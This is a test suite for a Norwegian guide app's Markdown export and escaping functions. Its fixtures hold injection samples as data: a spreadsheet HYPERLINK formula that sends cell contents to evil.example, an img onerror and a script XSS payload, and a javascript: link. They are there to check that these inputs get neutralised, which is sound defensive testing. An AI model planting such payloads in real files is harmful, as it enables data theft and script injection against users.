import { expect } from '@open-wc/testing';
import fc from 'fast-check';
import { turguide } from '../../src/content/turguide.js';
import type { GuideContent } from '../../src/content/types.js';
import { escapeMarkdownBlock, escapeMarkdownInline, toMarkdown } from '../../src/export/index.js';
import { createDocument } from '../../src/store/document.js';
import { fixture, T } from './fixture.js';

const lines = (...each: string[]) => `${each.join('\n')}\n`;

const emptyCards = (...questions: string[]) => questions.flatMap((question) => [`### ${question}`, '', '_Ingen lapper._', '']);

describe('toMarkdown', () => {
  it('writes the exact Markdown of a document with specials, line breaks, æøå, HTML and an unplaced note', () => {
    expect(toMarkdown(fixture, turguide)).to.equal(
      lines(
        '# Turguide for innovasjon',
        '',
        'Innhold: KS – Turguide for innovasjon',
        '',
        '## Trinn 1: Legg grunnlaget',
        '',
        '### Hva er målet vårt?',
        '',
        '- Kortere ventetid, færre køer (Kari Nordmann) · 3 stemmer',
        '- Vi sa "ja" til\\',
        '  prøveprosjekt',
        '',
        '  Nytt avsnitt · 1 stemme',
        '- \\=HYPERLINK("https\\://evil\\.example/?q="&A1,"Klikk") (Ola)',
        '',
        ...emptyCards('Hvordan kan vi sikre god forankring?'),
        '### Hvordan kan vi bygge et godt team?',
        '',
        '- \\# Ikke overskrift \\*fet\\* \\_kursiv\\_ \\`kode\\` \\[lenke\\](https\\://evil\\.example) \\| a \\| b \\\\ \\~\\~x\\~\\~ 5 \\$ (Per \\[admin\\]) · 1 stemme',
        '',
        '### Oppfølging',
        '',
        '- [x] Booke møterom (Kari) · frist 2025-02-10',
        '- [ ] Snakke med rådmannen, \\*før\\* jul (Ola) · frist 2025-02-01',
        '',
        '## Trinn 2: Identifiser behov',
        '',
        '### Hvordan kan vi forstå behovene?',
        '',
        '- \\<img src=x onerror="alert(1)"\\> (Æsa Øvre Ålvik) · 2 stemmer',
        '- \\- Ikke liste\\',
        '  1\\. Ikke nummerert\\',
        '  \\===\\',
        '  \\> sitat \\&amp; www\\.kommune\\.no kari\\@example\\.no (\\@Ola) · 1 stemme',
        '',
        ...emptyCards('Hvilke metoder kan vi bruke?', 'Hvordan kan vi formidle behovene?'),
        '### Oppfølging',
        '',
        '- [ ] Intervjue brukere',
        '- [ ] Lage intervjuguide (Aisha) · frist 2025-01-20',
        '',
        '## Trinn 3: Utforsk muligheter',
        '',
        ...emptyCards(
          'Hvilke løsninger finnes allerede som vi kan hente inspirasjon fra?',
          'Hvordan kan vi teste løsningene?',
          'Hvordan kan vi samarbeide om å skape løsninger på våre utfordringer?',
        ),
        '## Trinn 4: Realisere',
        '',
        ...emptyCards(
          'Hvordan skal vi gå frem for å implementere løsningen?',
          'Hvordan kan vi følge med på om den nye løsningen fungerer, og samle innspill underveis?',
        ),
        '## Lapper uten plass',
        '',
        '### Kort-id: t9-borte',
        '',
        '- Lapp fra et kort som er borte (Kari Nordmann) · 2 stemmer',
        '',
        '## Oppsummering',
        '',
        '### Trinn 1: Legg grunnlaget',
        '',
        '#### Flest stemmer',
        '',
        '- Kortere ventetid, færre køer (Kari Nordmann) · 3 stemmer',
        '- Vi sa "ja" til\\',
        '  prøveprosjekt',
        '',
        '  Nytt avsnitt · 1 stemme',
        '- \\# Ikke overskrift \\*fet\\* \\_kursiv\\_ \\`kode\\` \\[lenke\\](https\\://evil\\.example) \\| a \\| b \\\\ \\~\\~x\\~\\~ 5 \\$ (Per \\[admin\\]) · 1 stemme',
        '',
        '#### Oppfølging',
        '',
        '- [x] Booke møterom (Kari) · frist 2025-02-10',
        '- [ ] Snakke med rådmannen, \\*før\\* jul (Ola) · frist 2025-02-01',
        '',
        '### Trinn 2: Identifiser behov',
        '',
        '#### Flest stemmer',
        '',
        '- \\<img src=x onerror="alert(1)"\\> (Æsa Øvre Ålvik) · 2 stemmer',
        '- \\- Ikke liste\\',
        '  1\\. Ikke nummerert\\',
        '  \\===\\',
        '  \\> sitat \\&amp; www\\.kommune\\.no kari\\@example\\.no (\\@Ola) · 1 stemme',
        '',
        '#### Oppfølging',
        '',
        '- [ ] Intervjue brukere',
        '- [ ] Lage intervjuguide (Aisha) · frist 2025-01-20',
        '',
        '### Trinn 3: Utforsk muligheter',
        '',
        '_Ingen stemmer eller oppfølgingspunkter._',
        '',
        '### Trinn 4: Realisere',
        '',
        '_Ingen stemmer eller oppfølgingspunkter._',
        '',
        '### Åpne oppfølgingspunkter',
        '',
        '- [ ] Lage intervjuguide (Aisha) · frist 2025-01-20 · Trinn 2',
        '- [ ] Snakke med rådmannen, \\*før\\* jul (Ola) · frist 2025-02-01 · Trinn 1',
        '- [ ] Intervjue brukere · Trinn 2',
      ),
    );
  });

  it('writes blank worksheets and an empty summary for an empty document', () => {
    const markdown = toMarkdown(createDocument(), turguide);
    expect(markdown.startsWith('# Turguide for innovasjon\n\nInnhold: KS – Turguide for innovasjon\n\n## Trinn 1: Legg grunnlaget\n\n')).to.be.true;
    expect(markdown).not.to.include('Lapper uten plass');
    expect(markdown).not.to.include('### Oppfølging');
    expect(markdown.match(/_Ingen lapper\._/g)).to.have.length(11);
    expect(markdown.endsWith('### Åpne oppfølgingspunkter\n\n_Ingen åpne oppfølgingspunkter._\n')).to.be.true;
  });

  it('follows the content it is given: own wording, fewer steps, actions of a missing step, topVotes', () => {
    const content: GuideContent = {
      introduction: { ...turguide.introduction, title: () => 'Vår guide <b>' },
      steps: [{ number: 1, title: () => 'Start', intro: () => '', cards: [{ id: 't1-mal', question: () => 'Mål #1?', prompts: [] }] }],
    };
    const document = createDocument({
      notes: [
        { id: 'a', cardId: 't1-mal', text: 'A', color: 'yellow', author: '', votes: ['p1'], createdAt: T(1), updatedAt: T(1) },
        { id: 'b', cardId: 't1-mal', text: '', color: 'yellow', author: 'Kari', votes: ['p1', 'p2'], createdAt: T(2), updatedAt: T(2) },
      ],
      actions: [{ id: 'x', step: 4, what: 'Evaluere', who: '', due: '', done: true, createdAt: T(3), updatedAt: T(3) }],
    });
    expect(toMarkdown(document, content, { topVotes: 1 })).to.equal(
      lines(
        '# Vår guide \\<b\\>',
        '',
        'Innhold: KS – Turguide for innovasjon',
        '',
        '## Trinn 1: Start',
        '',
        '### Mål \\#1?',
        '',
        '- A · 1 stemme',
        '- _(tom)_ (Kari) · 2 stemmer',
        '',
        '## Oppfølging uten plass',
        '',
        '- [x] Evaluere · Trinn 4',
        '',
        '## Oppsummering',
        '',
        '### Trinn 1: Start',
        '',
        '#### Flest stemmer',
        '',
        '- _(tom)_ (Kari) · 2 stemmer',
        '',
        '### Åpne oppfølgingspunkter',
        '',
        '_Ingen åpne oppfølgingspunkter._',
      ),
    );
  });

  it('looks its strings up when it runs, not when the module loads', () => {
    let calls = 0;
    const content: GuideContent = { ...turguide, introduction: { ...turguide.introduction, title: () => `Guide ${++calls}` } };
    expect(toMarkdown(createDocument(), content)).to.match(/^# Guide 1\n/);
    expect(toMarkdown(createDocument(), content)).to.match(/^# Guide 2\n/);
  });
});

describe('Markdown escaping', () => {
  const inline: [string, string][] = [
    ['Helt vanlig tekst, med æøå.', 'Helt vanlig tekst, med æøå.'],
    ['# Overskrift', '\\# Overskrift'],
    ['Tittel ##', 'Tittel \\#\\#'],
    ['- punkt', '\\- punkt'],
    ['+ punkt', '\\+ punkt'],
    ['12. mai', '12\\. mai'],
    ['3) svar', '3\\) svar'],
    ['2025 var året', '2025 var året'],
    ['a - b + c = d', 'a - b + c = d'],
    ['[x](javascript:alert(1))', '\\[x\\](javascript\\:alert(1))'],
    ['![bilde](x.png)', '!\\[bilde\\](x\\.png)'],
    ['<https://a.no>', '\\<https\\://a\\.no\\>'],
    ['Se https://www.ks.no/ nå', 'Se https\\://www\\.ks\\.no/ nå'],
    ['mailto:kari@kommune.no', 'mailto\\:kari\\@kommune\\.no'],
    ['Mål: bedre tjenester', 'Mål: bedre tjenester'],
    ['&lt;b&gt; & &#60;', '\\&lt;b\\&gt; & &\\#60;'],
    ['<script>alert(1)</script>', '\\<script\\>alert(1)\\</script\\>'],
    ['a | b', 'a \\| b'],
    ['snake_case *x* ~y~ `z` $x$', 'snake\\_case \\*x\\* \\~y\\~ \\`z\\` \\$x\\$'],
    ['C:\\temp', 'C\\:\\\\temp'],
    ['  to\n linjer\t ', 'to linjer'],
    ['', ''],
  ];
  for (const [input, expected] of inline) {
    it(`escapes ${JSON.stringify(input)} inline`, () => expect(escapeMarkdownInline(input)).to.equal(expected));
  }

  it('keeps line breaks as hard breaks and one blank line between paragraphs', () => {
    expect(escapeMarkdownBlock('en\r\nto\rtre\n\n\n\nfire\n\n')).to.deep.equal(['en\\', 'to\\', 'tre', '', 'fire']);
    expect(escapeMarkdownBlock('\n\n  \n')).to.deep.equal([]);
    expect(escapeMarkdownBlock('tittel\n===\n---\n    kode')).to.deep.equal(['tittel\\', '\\===\\', '\\---\\', 'kode']);
  });

  /** Reads escaped Markdown as CommonMark would: `\` before ASCII punctuation is dropped. Fails on any special left bare. */
  function readLiterally(markdown: string): string {
    let out = '';
    for (let i = 0; i < markdown.length; i++) {
      const char = markdown[i];
      if (char === '\\' && /[!-/:-@[-`{-~]/.test(markdown[i + 1] ?? '')) {
        out += markdown[++i];
        continue;
      }
      if (/[\\`*_[\]<>|~#@$]/.test(char)) throw new Error(`bare ${char} at ${i} in ${JSON.stringify(markdown)}`);
      out += char;
    }
    return out;
  }

  it('leaves no special character bare and loses no character, for any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 80 }), (input) => {
        const escaped = escapeMarkdownInline(input);
        expect(escaped).not.to.match(/^(?:[-+=]|\d{1,9}[.)])/);
        expect(escaped).not.to.match(/[A-Za-z]:\S/);
        expect(readLiterally(escaped)).to.equal(input.replace(/\s+/g, ' ').trim());
      }),
      { numRuns: 500, seed: 4 },
    );
  });

  it('keeps every line of a note inside its list item, for any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('a', ' ', '\n', '\r', '-', '#', '=', '1', '.', '>', '*', '\\'), maxLength: 60 }), (input) => {
        const document = createDocument({
          notes: [{ id: 'n', cardId: 't1-mal', text: input, color: 'yellow', author: '', votes: [], createdAt: T(1), updatedAt: T(1) }],
        });
        const markdown = toMarkdown(document, turguide);
        const start = markdown.indexOf('### Hva er målet vårt?\n\n') + '### Hva er målet vårt?\n\n'.length;
        const item = markdown.slice(start, markdown.indexOf('\n\n### ', start)).split('\n');
        expect(item[0]).to.match(/^- /);
        for (const line of item.slice(1)) expect(line).to.match(/^(?: {2}\S.*)?$/);
        const blockStart = /^(?:[-+*=#>]|\d+[.)])/;
        for (const [index, line] of item.entries()) {
          const text = index === 0 ? line.slice(2) : line.trimStart();
          expect(blockStart.test(text), line).to.be.false;
        }
      }),
      { numRuns: 300, seed: 5 },
    );
  });
});
